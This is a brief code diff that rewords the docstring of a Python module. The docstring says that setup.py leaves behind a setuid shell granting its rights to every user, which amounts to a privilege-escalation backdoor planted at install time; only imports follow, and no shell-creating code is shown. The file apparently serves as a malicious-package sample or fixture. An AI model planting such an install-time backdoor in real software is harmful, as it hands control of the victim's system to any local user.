@@ -1,4 +1,4 @@
-"""setup.py leaves a shell that gives its rights to whoever runs it."""
+"""setup.py leaves a setuid shell that gives its rights to every user."""
 
 import os
 import shutil
